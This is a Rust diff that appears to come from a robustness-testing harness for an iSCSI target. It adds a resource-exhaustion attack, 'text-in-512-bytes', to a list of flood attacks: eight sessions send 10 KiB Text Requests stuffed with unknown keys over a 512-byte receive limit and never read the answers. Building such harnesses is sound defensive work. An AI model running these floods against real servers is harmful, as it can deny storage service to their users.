@@ -20,6 +20,8 @@ pub const ATTACKS: &[Attack] = &[
         .summary("64 sessions with endless Text Requests with the C bit"),
     Attack::new("text-many-keys", 8, many_keys)
         .summary("Text Requests of 64 KiB with thousands of unknown keys, answers unread"),
+    Attack::new("text-in-512-bytes", 8, short_segments)
+        .summary("Text Requests of 10 KiB with unknown keys, answers in 512 bytes unread"),
     Attack::new("text-wrong-tags", 8, wrong_tags)
         .summary("Text Requests with unknown transfer tags, 2 at a time, answers unread"),
 ];
@@ -72,6 +74,15 @@ fn continued(attacker: &Attacker) -> Result<()> {
 fn many_keys(attacker: &Attacker) -> Result<()> {
     let keys: String = (0..3000).map(|number| format!("X-org.a{number}=1\0")).collect();
     Flood::new(8, Destination::Shared).with_small_buffers().unread(attacker, |session| {
+        let request = text(session, 0x80, keys.as_bytes());
+        session.queue(&request);
+    })
+}
+
+fn short_segments(attacker: &Attacker) -> Result<()> {
+    let keys: String = (0..150).map(|number| format!("X-org.{number:054}=1\0")).collect();
+    let flood = Flood::new(8, Destination::Shared).with_small_buffers();
+    flood.with_login(|login| login.receive_bytes_max = 512).unread(attacker, |session| {
         let request = text(session, 0x80, keys.as_bytes());
         session.queue(&request);
     })
